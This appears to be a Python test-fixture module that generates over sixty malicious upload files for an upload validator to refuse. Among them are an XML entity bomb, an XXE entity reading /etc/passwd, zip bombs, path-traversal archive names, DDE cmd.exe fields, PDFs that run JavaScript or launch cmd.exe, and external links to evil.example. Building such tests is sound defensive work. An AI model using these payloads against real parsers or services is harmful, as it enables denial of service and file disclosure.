"""Sixty and more files nobody should send: each made in memory, each to be refused wherever a file is taken."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator

from tests.uploads.conftest import archive, pdf, word, workbook

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PARTS = {
    "xlsx": (
        "xl/vbaProject.bin",
        "xl/macrosheets/sheet1.xml",
        "xl/dialogsheets/sheet1.xml",
        "customUI/customUI.xml",
        "xl/embeddings/oleObject1.bin",
        "xl/ctrlProps/ctrlProp1.xml",
        "xl/activeX/activeX1.xml",
        "xl/externalLinks/externalLink1.xml",
        "xl/connections.xml",
        "xl/queryTables/queryTable1.xml",
        "xl/model/item.data",
        "../../evil.xml",
        "/etc/cron.d/evil",
        "xl/inner.zip",
    ),
    "docx": (
        "word/vbaProject.bin",
        "word/VBADATA.xml",
        "word/embeddings/Microsoft_Excel.xlsx",
        "word/embeddings/oleObject1.bin",
        "word/activeX/activeX1.xml",
        "word/afchunk.mht",
        "../../evil.xml",
        "word/inner.zip",
    ),
}
LINKS = (
    ("attachedTemplate", "http://evil.example/t.dotm", 'TargetMode="External"'),
    ("image", "http://evil.example/track.png", 'TargetMode="External"'),
    ("oleObject", "file:///x", "TargetMode = 'External'"),
    ("hyperlink", "file://server/share", 'TargetMode="External"'),
    ("frame", "http://evil.example", 'TargetMode="&#69;xternal"'),
)
MISNAMED = "not what its name says"
LAUGHS = (
    b'<!DOCTYPE l [<!ENTITY a "ha">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9))
    + b"]><l>&j;</l>"
)
OUTSIDE = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'


def hostile_files() -> Iterator[tuple[str, str, bytes]]:
    """What is wrong with it, the ending it comes with, and its bytes."""
    yield from _office_files()
    yield from _pdfs()
    yield from _pictures()
    for ending, data in (
        ("csv", b"MZ\x90\x00" + bytes(100)),
        ("csv", b"Name\x00\x01\x02,\n"),
        ("csv", b"{\\rtf1 text}"),
        ("csv", b"<html><script>alert(1)</script></html>"),
        ("csv", b"\x7fELF" + bytes(60)),
        ("csv", workbook([["Name"]])),
        ("csv", pdf()),
        ("xml", b"<!DOCTYPE html><html></html>"),
        ("xml", b"Name,Category"),
        ("xlsx", b"Name,Category\nA,B\n"),
        ("xlsx", word("Text")),
        ("docx", workbook([["Name"]])),
        ("docx", b"<html><script>zqfuzz()</script></html>"),
        ("docx", b"{\\rtf1\\object}"),
        ("pdf", b"PK\x03\x04"),
    ):
        yield f"{MISNAMED}: {data[:8]!r}", ending, data
    for ending in ("csv", "xlsx", "xml", "docx", "pdf", "png", "ics"):
        yield f"an empty {ending}", ending, b" \n"
    for what, data in (
        ("ten billion laughs", LAUGHS),
        ("a file from outside", OUTSIDE),
        ("two hundred thousand deep", b"<a>" * 200_000 + b"</a>" * 200_000),
        ("an encoding nobody has", b'<?xml version="1.0" encoding="x-none"?><a/>'),
        ("never closed", b"<a><b>"),
    ):
        yield f"xml: {what}", "xml", data
    yield "a calendar that is none", "ics", b"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\n" + b"\xff\xfe\x00" * 40


def _office_files() -> Iterator[tuple[str, str, bytes]]:
    for kind, main in (("xlsx", "xl/workbook.xml"), ("docx", "word/document.xml")):
        for part in PARTS[kind]:
            yield f"{kind} with {part}", kind, archive({main: "<x/>", part: b"x"})
        yield f"{kind} that is a bomb", kind, archive({main: b"0" * 30_000_000})
        yield (
            f"{kind} of three thousand parts",
            kind,
            archive({main: "<x/>", **{f"a/{n}.xml": "" for n in range(3000)}}),
        )
        yield f"{kind} with a password", kind, b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
        yield f"{kind} that is cut off", kind, (workbook([["Name"]]) if kind == "xlsx" else word("A"))[:-200]
        yield f"{kind} of nothing", kind, b"PK\x05\x06" + bytes(18)
        yield f"{kind} with laughing parts", kind, archive({main: LAUGHS})
        yield f"{kind} that reads a file from outside", kind, archive({main: OUTSIDE})
    types = '<Override ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/>'
    yield "a renamed macro workbook", "xlsx", archive({"xl/workbook.xml": "<x/>"}, content_types=types)
    yield "a cell at the far end", "xlsx", far_cell()
    for kind, target, mode in LINKS:
        rels = f'<Relationships><Relationship Id="r" Type="{OFFICE}/{kind}" Target="{target}" {mode}/></Relationships>'
        parts = {"word/document.xml": "<x/>", "word/_rels/document.xml.rels": rels}
        yield f"docx that loads a {kind}", "docx", archive(parts)
    for field in ("<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>", '<w:fldSimple w:instr=" DDE excel "/>'):
        yield f"docx with {field[:20]}", "docx", archive({"word/document.xml": f"<w:document>{field}</w:document>"})


def _pdfs() -> Iterator[tuple[str, str, bytes]]:
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    def opening(**action: str) -> Callable[..., None]:
        def add(writer) -> None:
            made = {
                NameObject(f"/{k}"): NameObject(v) if v[0] == "/" else TextStringObject(v) for k, v in action.items()
            }
            writer.root_object[NameObject("/OpenAction")] = writer._add_object(DictionaryObject(made))

        return add

    yield "pdf with a script", "pdf", pdf(opening(S="/JavaScript", JS="app.alert(1)"))
    yield "pdf that starts a program", "pdf", pdf(opening(S="/Launch", F="cmd.exe"))
    yield "pdf with an attachment", "pdf", pdf(lambda writer: writer.add_attachment("evil.exe", b"MZ"))
    yield "pdf with a password", "pdf", pdf(lambda writer: writer.encrypt("secret"))
    yield "pdf that is broken", "pdf", b"%PDF-1.7\n" + b"garbage" * 50


def _pictures() -> Iterator[tuple[str, str, bytes]]:
    header = struct.pack(">IIBBBBB", 30_000, 30_000, 8, 2, 0, 0, 0)
    sum_ = struct.pack(">I", zlib.crc32(b"IHDR" + header))
    yield "png of 900 megapixels", "png", b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR" + header + sum_
    yield "png that is cut off", "png", b"\x89PNG\r\n\x1a\n" + bytes(4)
    yield "jpg that is broken", "jpg", b"\xff\xd8\xff" + bytes(50)
    yield "png that is a page", "png", b"<svg onload=alert(1)>"


def far_cell() -> bytes:
    """One cell at the far end of the sheet: a few kilobytes that make a careless reader reserve the whole of it."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(workbook([["Name"], ["A"]]))) as old, zipfile.ZipFile(out, "w") as new:
        for name in old.namelist():
            content = old.read(name)
            if name.endswith("sheet1.xml"):
                far = b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
                content = content.replace(b"</sheetData>", far)
            new.writestr(name, content)
    return out.getvalue()
